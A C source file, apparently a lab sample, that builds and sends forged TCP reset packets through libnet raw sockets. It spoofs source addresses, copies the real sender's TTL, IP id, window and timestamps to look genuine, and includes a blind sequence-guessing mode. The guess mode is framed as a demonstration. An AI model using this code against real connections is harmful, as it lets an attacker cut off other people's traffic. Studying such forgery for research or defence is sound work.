/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Raw sockets with our own IP header: the kernel looks up the route by the destination, whatever
 * kind of interface that leads to, and lets any source address and TTL pass. It writes the checksum
 * of IPv4, and the identification where we leave 0 and do not forbid to fragment.
 */
#include "samples/lab/forge_reset.h"

#include <libnet.h>
#include <string.h>

#define GUESS_WINDOW 32768u /* if the real one is unknown */
#define GUESS_WINDOW_MIN 1024u
/* A prime, so that no whole number of windows leads from the first guess to the exact number. */
#define GUESS_START INT32_MAX
#define TIMESTAMP_OPTION_LEN 12

/*
 * A blind forger walks through the sequence space in steps of a window, from anywhere. Here he begins
 * on the far side, so that we know what he achieves: a few guesses miss, and a walk all around lands
 * in the window once and never on the number.
 */
static void plan_guess(const struct flow *flow, enum end to, struct reset *reset)
{
	uint32_t window = flow_window(flow, to);

	if (window == 0)
		window = GUESS_WINDOW;
	reset->step = window > GUESS_WINDOW_MIN ? window : GUESS_WINDOW_MIN;
	reset->seq -= GUESS_START;
}

static bool copies(const struct order *order)
{
	return order->ttl == ORDER_COPY || order->window == ORDER_COPY ||
	       order->tos == ORDER_COPY || order->ip_id == ORDER_COPY || order->timestamps != 0;
}

static void plan_ip(const struct half *sender, const struct order *order, struct reset *reset)
{
	reset->ttl = order->ttl == ORDER_COPY ? sender->ttl : (uint8_t)order->ttl;
	reset->tos = order->tos == ORDER_COPY ? sender->tos : (uint8_t)order->tos;
	reset->df = order->df != 0;
	if (order->ip_id == ORDER_COPY)
		reset->ip_id = (uint16_t)(sender->ip_id + 1);
	else if (order->ip_id != ORDER_KERNEL)
		reset->ip_id = (uint16_t)order->ip_id;
}

/*
 * The client whose SYN has no answer expects no number yet: it looks at the acknowledgement alone (RFC
 * 9293 section 3.10.7.3), and hosts write 0.
 */
static bool plan_numbers(const struct flow *flow, enum end to, struct reset *reset)
{
	bool unanswered = to == CLIENT && flow->half[CLIENT].syn_seen && !flow->half[SERVER].seen;

	return (flow_expects(flow, to, &reset->seq) || unanswered) &&
	       flow_expects(flow, !to, &reset->ack);
}

const char *reset_plan(const struct flow *flow, const struct order *order, enum end to,
		       struct reset *reset)
{
	const struct half *sender = &flow->half[!to];

	*reset = (struct reset){ .from = &flow->address[!to], .to = &flow->address[to] };
	if (!plan_numbers(flow, to, reset))
		return "nothing has passed yet that tells the sequence numbers";
	if (copies(order) && !sender->seen)
		return "nothing has passed yet of the end to copy from";
	if (order->timestamps != 0 && !sender->timestamps)
		return "this connection bears no timestamps";
	if (reset->from->family == AF_INET6 && (order->ip_id != ORDER_KERNEL || order->df != 0))
		return "IPv6 has neither id nor df";

	if (order->seq == ORDER_GUESS)
		plan_guess(flow, to, reset);
	else
		reset->seq += (uint32_t)order->seq;
	if (order->step != 0)
		reset->step = (uint32_t)order->step;
	reset->acknowledges = order->ack != 0;
	if (!reset->acknowledges)
		reset->ack = 0;
	reset->window = order->window == ORDER_COPY ? sender->window : (uint16_t)order->window;
	plan_ip(sender, order, reset);
	reset->timestamps = order->timestamps != 0;
	reset->tsval = sender->tsval;
	reset->tsecr = flow->half[to].tsval;
	return NULL;
}

void reset_advance(struct reset *reset)
{
	reset->seq += reset->step;
	if (reset->ip_id != 0)
		reset->ip_id++;
}

struct libnet_context *reset_open(int family, struct text *why)
{
	char error[LIBNET_ERRBUF_SIZE] = "";
	libnet_t *net = libnet_init(family == AF_INET ? LIBNET_RAW4 : LIBNET_RAW6, NULL, error);

	if (net == NULL)
		text_add(why, "%s", error);
	return net;
}

void reset_close(struct libnet_context *net)
{
	libnet_destroy(net);
}

static void put_u32(uint8_t *out, uint32_t value)
{
	for (int i = 0; i < 4; i++)
		out[i] = (uint8_t)(value >> (24 - 8 * i));
}

/* As Linux lays it out: two fillers, then the option. */
static bool build_timestamps(libnet_t *net, const struct reset *reset)
{
	uint8_t option[TIMESTAMP_OPTION_LEN] = { 1, 1, 8, 10 };

	put_u32(option + 4, reset->tsval);
	put_u32(option + 8, reset->tsecr);
	return libnet_build_tcp_options(option, sizeof(option), net, 0) >= 0;
}

static bool build_ipv4(libnet_t *net, const struct reset *reset, uint16_t tcp_len)
{
	uint32_t source, destination;

	memcpy(&source, reset->from->ip, sizeof(source));
	memcpy(&destination, reset->to->ip, sizeof(destination));
	return libnet_build_ipv4((uint16_t)(LIBNET_IPV4_H + tcp_len), reset->tos, reset->ip_id,
				 reset->df ? IP_DF : 0, reset->ttl, IPPROTO_TCP, 0, source,
				 destination, NULL, 0, net, 0) >= 0;
}

static bool build_ipv6(libnet_t *net, const struct reset *reset, uint16_t tcp_len)
{
	struct libnet_in6_addr source, destination;

	memcpy(&source, reset->from->ip, sizeof(source));
	memcpy(&destination, reset->to->ip, sizeof(destination));
	return libnet_build_ipv6(reset->tos, 0, tcp_len, IPPROTO_TCP, reset->ttl, source,
				 destination, NULL, 0, net, 0) >= 0;
}

/* From the inside out; a TCP checksum of 0 tells libnet to compute it. */
static bool build(libnet_t *net, const struct reset *reset)
{
	uint8_t flags = (uint8_t)(TH_RST | (reset->acknowledges ? TH_ACK : 0));
	uint16_t len = LIBNET_TCP_H + (reset->timestamps ? TIMESTAMP_OPTION_LEN : 0);

	if (reset->timestamps && !build_timestamps(net, reset))
		return false;
	if (libnet_build_tcp(reset->from->port, reset->to->port, reset->seq, reset->ack, flags,
			     reset->window, 0, 0, len, NULL, 0, net, 0) < 0)
		return false;
	if (reset->from->family == AF_INET)
		return build_ipv4(net, reset, len);
	return build_ipv6(net, reset, len);
}

const char *reset_send(struct libnet_context *net, const struct reset *reset)
{
	bool sent = build(net, reset) && libnet_write(net) >= 0;

	libnet_clear_packet(net);
	return sent ? NULL : libnet_geterror(net);
}
